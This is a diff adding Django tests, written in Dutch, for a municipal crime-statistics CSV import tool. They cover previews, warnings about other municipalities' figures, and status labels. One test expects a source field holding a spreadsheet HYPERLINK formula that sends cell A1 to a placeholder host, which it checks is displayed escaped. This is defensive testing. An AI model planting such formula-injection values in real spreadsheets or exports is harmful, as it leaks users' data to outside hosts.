@@ -6,6 +6,7 @@ Alle bestanden zijn synthetisch (tests/importbestanden).
 import io
 import re
 from decimal import Decimal
+from pathlib import Path
 
 from django.conf import settings
 from django.core.cache import cache
@@ -24,6 +25,7 @@ from tests import importbestanden as ib
 from tests.gebruikers import maak_gebruikers
 
 URL = reverse("cijfers:importeren")
+CASUSSEN = Path(__file__).parent / "casussen"  # de echte bestanden van ../shared/cases/
 
 
 def upload(client, inhoud, naam="politie-synthetisch.csv"):
@@ -549,3 +551,167 @@ class BeheerTest(TestCase):
         detail = self.client.get(reverse("admin:cijfers_import_change", args=[import_.pk]))
         self.assertContains(detail, import_.get_absolute_url())
         self.assertEqual(self.client.get(reverse("admin:cijfers_import_add")).status_code, 403)
+
+
+class AndereGemeenteTest(TestCase):
+    """Proefgebruiker, punt 10: het voorbeeld zegt welke bestaande cijfers van andere gemeenten
+    dan de eigen het bestand wijzigt, vóór het bevestigen. Wie mag importeren blijft gelijk."""
+
+    @classmethod
+    def setUpTestData(cls):
+        call_command("laad_brondata", stdout=io.StringIO())
+        cls.gebruikers = maak_gebruikers()
+        # Het echte bestand c01: Baarn 2024 = 41, Soest 2024 = 87 (woninginbraken).
+        ib.importeer((CASUSSEN / "c01_pandas_to_csv_float_aantallen.csv").read_bytes())
+        cls.c03 = (CASUSSEN / "c03_sjabloon_excel_lege_puntkommarijen.csv").read_bytes()
+
+    def voorbeeld(self, naam, inhoud):
+        self.client.force_login(self.gebruikers[naam])
+        upload(self.client, inhoud, naam="c03.csv")
+        return Import.objects.latest("pk")
+
+    def test_adviseur_van_baarn_ziet_dat_een_cijfer_van_soest_verandert(self):
+        # c03: Soest 2024 wordt 52 (was 87), Baarn 2024 wordt 33 (was 41).
+        import_ = self.voorbeeld("adviseur_baarn", self.c03)
+        # De sessie, de gebruiker, zijn profiel, de import en de gemeenten van zijn profiel.
+        with self.assertNumQueries(5):
+            response = self.client.get(import_.get_absolute_url())
+        self.assertContains(response, "Dit bestand wijzigt 1 cijfer van Soest, niet jouw gemeente.")
+        self.assertContains(response, ">Importeren</button>")  # mag nog steeds
+        # De voorzitter ziet het voorbeeld van de adviseur met dezelfde waarschuwing.
+        self.client.force_login(self.gebruikers["voorzitter"])
+        self.assertContains(
+            self.client.get(import_.get_absolute_url()),
+            "Dit bestand wijzigt 1 cijfer van Soest, geen gemeente van adviseur_baarn.",
+        )
+        # Zijn eigen upload van hetzelfde bestand: hij mag alles, geen waarschuwing.
+        eigen = self.voorbeeld("voorzitter", self.c03)
+        self.assertNotContains(self.client.get(eigen.get_absolute_url()), 'id="buiten-eigen"')
+        self.client.force_login(self.gebruikers["adviseur_baarn"])
+        self.client.post(import_.get_absolute_url())
+        self.assertEqual(
+            Cijfer.objects.get(
+                gebied__slug="soest", categorie__slug="woninginbraken", jaar=2024
+            ).waarde,
+            52,
+        )
+
+    def test_adviseur_van_soest_ziet_baarn_en_nieuwe_cijfers_tellen_niet(self):
+        import_ = self.voorbeeld("adviseur_soest", self.c03)
+        self.assertContains(
+            self.client.get(import_.get_absolute_url()),
+            "Dit bestand wijzigt 1 cijfer van Baarn, niet jouw gemeente.",
+        )
+        # Alleen nieuwe cijfers (Eemnes 2024 bestaat nog niet): geen waarschuwing.
+        nieuw = self.voorbeeld(
+            "adviseur_soest", ib.sjabloon_csv([["Eemnes", "woninginbraken", 2024, 2024, 9, "", ""]])
+        )
+        self.assertNotContains(self.client.get(nieuw.get_absolute_url()), 'id="buiten-eigen"')
+
+    def test_meer_gemeenten_en_cijfers_uit_het_plan(self):
+        # Synthetisch: twee cijfers van Eemnes en één van Bunschoten uit het plan (2018).
+        rijen = [
+            ["Eemnes", "woninginbraken", 2018, 2018, 999, "", ""],
+            ["Eemnes", "autokraak", 2018, 2018, 998, "", ""],
+            ["Bunschoten", "autokraak", 2018, 2018, 997, "", ""],
+            ["Baarn", "autokraak", 2018, 2018, 996, "", ""],
+        ]
+        import_ = self.voorbeeld("adviseur_baarn", ib.sjabloon_csv(rijen))
+        self.assertContains(
+            self.client.get(import_.get_absolute_url()),
+            "Dit bestand wijzigt 3 cijfers buiten jouw gemeenten: Bunschoten (1) en Eemnes (2).",
+        )
+
+
+class AndereBronTest(TestCase):
+    """Proefgebruiker, punt 11 (laatste punt): hetzelfde cijfer opnieuw met alleen een andere
+    bron blijft ongewijzigd, en het voorbeeld zegt dat de oude bron blijft."""
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.gebruikers, _ = brondata_en_adviseur()
+
+    def test_c03_dan_c11_zegt_dat_de_bron_blijft(self):
+        self.client.force_login(self.gebruikers["adviseur_soest"])
+        c03 = "c03_sjabloon_excel_lege_puntkommarijen.csv"
+        upload(self.client, (CASUSSEN / c03).read_bytes(), naam=c03)
+        eerste = Import.objects.latest("pk")
+        self.client.post(eerste.get_absolute_url())
+        c11 = "c11_sjabloon_bron_als_formule.csv"
+        upload(self.client, (CASUSSEN / c11).read_bytes(), naam=c11)
+        tweede = Import.objects.latest("pk")
+        self.assertEqual(tweede.tellingen()["ongewijzigd"], 1)
+        response = self.client.get(tweede.get_absolute_url())
+        self.assertContains(
+            response,
+            f"1 cijfer gelijk, bron blijft <q>Import {eerste.pk}: {c03}</q> (het bestand noemt "
+            "<q>=HYPERLINK(&quot;http://voorbeeld.invalid/?d=&quot;&amp;A1;&quot;bron&quot;)</q>).",
+        )
+        self.assertContains(response, "Er is niets te importeren")
+        soest = Cijfer.objects.select_related("bron").get(
+            gebied__slug="soest", categorie__slug="woninginbraken", jaar=2024
+        )
+        self.assertEqual((soest.waarde, soest.bron.titel), (52, f"Import {eerste.pk}: {c03}"))
+
+    def test_zonder_bron_in_het_bestand_niets_te_melden(self):
+        self.client.force_login(self.gebruikers["adviseur_soest"])
+        rij = ["Soest", "woninginbraken", 2024, 2024, 52, "", ""]
+        upload(self.client, ib.sjabloon_csv([rij]))
+        self.client.post(Import.objects.latest("pk").get_absolute_url())
+        upload(self.client, ib.sjabloon_csv([rij]))  # zelfde bestand, nieuwe importbron
+        opnieuw = Import.objects.latest("pk")
+        self.assertEqual(opnieuw.voorbeeld["bron_blijft"], [])
+        self.assertNotContains(self.client.get(opnieuw.get_absolute_url()), "bron blijft")
+
+
+class WoordkeuzeTest(TestCase):
+    """Proefgebruiker, punt 16: de jaren per gebied zijn de geschreven jaren, en een voorbeeld
+    zonder iets te importeren heet in de lijst zo."""
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.gebruikers, _ = brondata_en_adviseur()
+
+    def setUp(self):
+        self.client.force_login(self.gebruikers["adviseur_baarn"])
+
+    def test_jaren_per_gebied_zonder_het_afgewezen_jaar(self):
+        rij = ["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]  # synthetisch, definitief
+        upload(self.client, ib.sjabloon_csv([rij]))
+        self.client.post(Import.objects.latest("pk").get_absolute_url())
+        # c02: 2023 en 2025* komen erbij, 2024** wordt afgewezen (definitief wint).
+        c02 = "c02_label_nader_voorlopig_dubbel_sterretje.csv"
+        upload(self.client, (CASUSSEN / c02).read_bytes(), naam=c02)
+        import_ = Import.objects.latest("pk")
+        self.assertEqual(import_.tellingen()["toegevoegd"], 2)
+        response = self.client.get(import_.get_absolute_url())
+        self.assertContains(
+            response,
+            '<tr><td>Baarn</td><td>2023, 2025</td><td class="tabular">2</td>'
+            '<td class="tabular">0</td></tr>',
+            html=True,
+        )
+        self.assertContains(response, "<code>38</code>", html=True)
+        self.assertNotContains(response, "<code>38*</code>")
+
+    def test_voorbeeld_zonder_iets_te_importeren_heet_zo_in_de_lijst(self):
+        rij = ["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]
+        upload(self.client, ib.sjabloon_csv([rij]))
+        self.client.post(Import.objects.latest("pk").get_absolute_url())
+        upload(self.client, ib.sjabloon_csv([rij]))  # alles ongewijzigd
+        upload(
+            self.client, ib.sjabloon_csv([["Atlantis", "woninginbraken", 2024, 2024, 1, "", ""]])
+        )
+        upload(self.client, ib.sjabloon_csv([["Soest", "autokraak", 2024, 2024, 1, "", ""]]))
+        html = self.client.get(URL).content.decode()
+        lijst = html.split('id="kop-imports"')[1]
+        statussen = re.findall(r"<td>([^<]*)</td>\s*<td class=\"tabular\">", lijst)
+        self.assertEqual(
+            statussen,
+            [
+                "Voorbeeld, nog niet bevestigd",
+                "Voorbeeld: alleen afgewezen rijen",
+                "Niets te importeren",
+                "Uitgevoerd",
+            ],
+        )
